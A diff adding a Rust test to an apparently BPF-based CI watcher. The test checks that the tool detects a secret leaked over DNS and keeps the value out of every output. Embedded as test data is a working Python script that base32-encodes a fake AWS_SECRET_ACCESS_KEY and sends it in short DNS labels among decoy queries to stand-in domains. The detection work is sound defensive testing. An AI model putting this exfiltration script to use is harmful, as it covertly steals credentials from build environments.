@@ -341,3 +341,106 @@ fn a_forged_answer_names_no_address() {
     assert_replay_matches(&w, tmp.path(), &args);
     drop(listener);
 }
+
+/// The seed's own leak, slow: a fake AWS_SECRET_ACCESS_KEY in buildwatch's environment (the
+/// CI's secrets are there, and the command inherits them), sent base32-encoded in 16-character
+/// labels spread over 30 queries among decoys, and in 6-character labels no single query
+/// holds enough of. Both are `secret-exfil`, naming the variable; the value itself appears in
+/// no output.
+#[test]
+fn a_secret_leaked_in_short_dns_labels_is_found_and_never_shown() {
+    if !require_bpf() {
+        return;
+    }
+    const SECRET: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYFAKEKEY0001";
+    let tmp = TempDir::new("dns-secret");
+    let _dns = Dnsmasq::start(&tmp);
+    let py = "import os, base64, random, socket\n\
+              v = os.environ['AWS_SECRET_ACCESS_KEY'].encode()\n\
+              enc = base64.b32encode(v).decode().rstrip('=').lower()\n\
+              def ask(n):\n\
+              \x20   try: socket.getaddrinfo(n, 80, socket.AF_INET)\n\
+              \x20   except OSError: pass\n\
+              chunks = [enc[i:i+16] for i in range(0, len(enc), 16)]\n\
+              rnd = random.Random(7)\n\
+              c = 0\n\
+              for i in range(30):\n\
+              \x20   if i % 7 == 3 and c < len(chunks):\n\
+              \x20       label = chunks[c]; c += 1\n\
+              \x20   else:\n\
+              \x20       label = ''.join(rnd.choice('abcdefghijklmnopqrstuvwxyz234567') for _ in range(16))\n\
+              \x20   ask(f'{label}.{i}.leak.test')\n\
+              for i in range(0, len(enc), 6):\n\
+              \x20   ask(f'{enc[i:i+6]}.{i}.drip.test')\n";
+    fs::write(tmp.join("leak.py"), py).unwrap();
+    let ns = resolv_ns(&tmp);
+    let ns: Vec<&str> = ns.iter().map(String::as_str).collect();
+    let w = watch_via(
+        &tmp,
+        tmp.path(),
+        &[("AWS_SECRET_ACCESS_KEY", SECRET.to_owned())],
+        &ns,
+        &[],
+        &["python3", tmp.join("leak.py").to_str().unwrap()],
+    );
+    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
+    let evs = w.events();
+    let queries = dns_events(&evs, "query")
+        .filter(|e| {
+            e["dns"]["qname"]
+                .as_str()
+                .is_some_and(|q| q.ends_with(".leak.test") || q.ends_with(".drip.test"))
+        })
+        .count();
+    assert!(
+        queries >= 30 + 11,
+        "the queries were not all seen: {queries}"
+    );
+    let found: Vec<&Value> = w.report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["rule"] == "secret-exfil")
+        .collect();
+    for domain in ["leak.test", "drip.test"] {
+        let f = found
+            .iter()
+            .find(|f| {
+                f["message"]
+                    .as_str()
+                    .unwrap()
+                    .ends_with(&format!("to {domain}"))
+            })
+            .unwrap_or_else(|| panic!("no secret-exfil for {domain}: {:#?}", w.report["findings"]));
+        assert_eq!(f["severity"], "critical");
+        assert!(
+            f["message"]
+                .as_str()
+                .unwrap()
+                .contains("the value of AWS_SECRET_ACCESS_KEY"),
+            "{f:#}"
+        );
+    }
+    // The value is in no output: events, report, terminal.
+    for (what, text) in [
+        (
+            "events",
+            fs::read_to_string(tmp.join("events.jsonl")).unwrap(),
+        ),
+        (
+            "report",
+            fs::read_to_string(tmp.join("report.json")).unwrap(),
+        ),
+        ("stderr", w.stderr()),
+        (
+            "stdout",
+            String::from_utf8_lossy(&w.out.stdout).into_owned(),
+        ),
+    ] {
+        assert!(!text.contains(SECRET), "the secret is in the {what}");
+        assert!(
+            !text.contains(&SECRET[..16]),
+            "part of the secret is in the {what}"
+        );
+    }
+}
